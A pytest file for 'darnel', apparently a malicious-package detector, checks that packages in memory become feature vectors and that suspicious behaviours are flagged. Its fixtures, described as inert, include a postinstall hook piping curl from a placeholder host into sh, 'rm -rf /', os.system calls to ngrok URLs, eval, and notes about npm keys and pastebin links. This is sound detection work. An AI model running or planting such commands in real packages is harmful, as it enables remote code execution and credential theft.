"""The whole way from a package in memory to vectors. Fixtures are inert."""

import dataclasses
import json

import numpy as np
import pytest

from darnel.features import extract as module
from darnel.features import memo
from darnel.features.analyse import FAILED, analyse_file
from darnel.features.extract import extract
from darnel.features.facts import SourceFacts
from darnel.features.languages.registry import language_by_name
from darnel.features.limits import Limits
from darnel.features.memo import Memo
from darnel.features.package import Ecosystem, MemoryPackage
from darnel.features.raw import RawPackage
from darnel.features.survey import Survey, survey
from darnel.features.vectorise import FILE_COLUMNS, PACKAGE_COLUMNS, quantise, vectorise_files, vectorise_package


def npm(**files: bytes) -> MemoryPackage:
    return MemoryPackage({name.replace("__", "."): data for name, data in files.items()}, ecosystem=Ecosystem.NPM)


def test_rows_have_the_declared_shape_and_raw_is_json() -> None:
    raw = extract(
        npm(
            package__json=b'{"name": "a", "version": "1.0.0"}',
            LICENSE=b"do as you please",
            pic__png=b"\x89PNG\r\n\x1a\n",
        )
    )
    assert json.loads(json.dumps(raw))["name"] == "a"
    assert vectorise_files(raw).shape == (len(raw["files"]), len(FILE_COLUMNS))
    assert vectorise_package(raw).shape == (len(PACKAGE_COLUMNS),)
    assert vectorise_package(raw).dtype == np.float32


def test_same_bytes_same_features() -> None:
    package = npm(package__json=b'{"name": "a"}', a__txt=b"https://webhook.example.invalid")
    first, second = extract(package), extract(package)
    first.pop("seconds"), second.pop("seconds")
    assert first == second


def test_files_are_surveyed_together_and_nobody_notices(monkeypatch: pytest.MonkeyPatch) -> None:
    files = {f"{i}.py": b"import os\nx = 'https://%d.ngrok.io/'\nos.system(x)\n" % (i % 5) for i in range(9)}
    package = MemoryPackage(
        files | {"a.txt": b"rm -rf /", "b.bin": b"\0\1", "c.py": b"", "d.js": b"eval(x)", "e.py": b"y = 1"}
    )
    together = extract(package, analyse=Memo())
    monkeypatch.setattr(module, "AT_ONCE", 1)
    for apart in (extract(package, analyse=Memo()), extract(package, analyse=analyse_file)):
        together.pop("seconds", None), apart.pop("seconds")
        assert json.dumps(together) == json.dumps(apart)


def test_nothing_is_surveyed_beyond_a_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[int] = []
    monkeypatch.setattr(module, "MOST_AT_ONCE", 2)

    def counted(files: list[Survey], limits: Limits) -> None:
        seen.append(len(files))
        survey(files, limits)

    monkeypatch.setattr(memo, "survey", counted)
    package = MemoryPackage({f"{i}.py": b"x = %d" % i for i in range(9)})
    raw = extract(package, Limits(files=3), Memo())
    assert seen == [2, 2]
    assert raw["skipped_files"] == 6


def test_quantise_keeps_three_digits() -> None:
    numbers = np.array([[0.0, 1.0, -2.5, 1234.567, 1e-9, np.nan, np.inf, 3e38]], dtype=np.float32)
    rounded = quantise(numbers.copy())
    assert np.allclose(rounded[0, :5], numbers[0, :5], rtol=1e-3)
    assert np.isnan(rounded[0, 5])
    assert np.isinf(rounded[0, 6])
    assert np.array_equal(quantise(rounded.copy()), rounded, equal_nan=True)


def test_a_bug_in_an_analyser_costs_one_file(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(data: bytes, limits: Limits) -> SourceFacts:
        raise RecursionError

    python = language_by_name("python")
    assert python
    broken_python = dataclasses.replace(python, analyse=broken)
    monkeypatch.setattr("darnel.features.extract.language_for", lambda *_: broken_python)
    (raw,) = extract(MemoryPackage({"a.py": b"x = 'https://abc.ngrok.io/'"}))["files"]
    assert raw["cut"] == [FAILED]
    assert {o.behaviour for o in raw["observations"]} == {"host.tunnel"}


def apis(raw: RawPackage, path: str) -> set[str]:
    return {seen.api for file in raw["files"] if file["path"] == path for seen in file["observations"]}


def test_what_a_file_only_says_is_no_behaviour() -> None:
    manifest = (
        b'{"name": "a", "keywords": ["powershell"],\n "scripts": {"clean": "rm -rf build",\n'
        b' "postinstall": "curl -s https://example.invalid/x | sh"}}'
    )
    readme = b"# a\n\npip install a\n\ncurl https://example.invalid/x | sh\n"
    raw = extract(npm(package__json=manifest, README__md=readme, index__js=b"x('\\\"postinstall\\\":')"))
    assert apis(raw, "package.json") == {"script:postinstall"}
    assert apis(raw, "README.md") == set()
    notes = b"put the key into ~/.npmrc, then `npm publish`; see https://pastebin.com/raw/0 and a bug bounty\n"
    for path, kept in (("docs/a.md", False), ("PKG-INFO", False), ("a.txt", True), ("AGENTS.md", True)):
        found = apis(extract(MemoryPackage({path: notes})), path)
        assert {"hide:research", "host:paste"} <= found
        assert ({"cred:npm", "spread:npm"} <= found) is kept
    assert "command:piped" in apis(extract(MemoryPackage({"SKILL.md": readme})), "SKILL.md"), "what an agent runs"
    assert "spread:package" in apis(raw, "index.js"), "code that writes hooks into manifests"
    lists = extract(MemoryPackage({"bower.json": b'{"ignore": [".travis.yml"]}', "a.yml": b"# see .travis.yml"}))
    assert apis(lists, "bower.json") == set()
    assert "persist:workflow" in apis(lists, "a.yml")
    listed = {f"a.egg-info/{name}": b"a/GetSecretValueRequest.py\n" for name in ("SOURCES.txt", "notes.txt")}
    package = extract(MemoryPackage(listed))
    assert apis(package, "a.egg-info/SOURCES.txt") == set()
    assert apis(package, "a.egg-info/notes.txt") == {"cred:aws"}
    mapped = b'{"sourcesContent": ["curl https://example.invalid/x | sh"]}'
    assert apis(extract(MemoryPackage({"a.js.map": mapped})), "a.js.map") == set()
    assert "command:piped" in apis(extract(MemoryPackage({"a.json": mapped})), "a.json")
    hook = next(file for file in raw["files"] if file["path"] == "package.json#postinstall")
    assert "spawn.piped" in {seen.behaviour for seen in hook["observations"]}
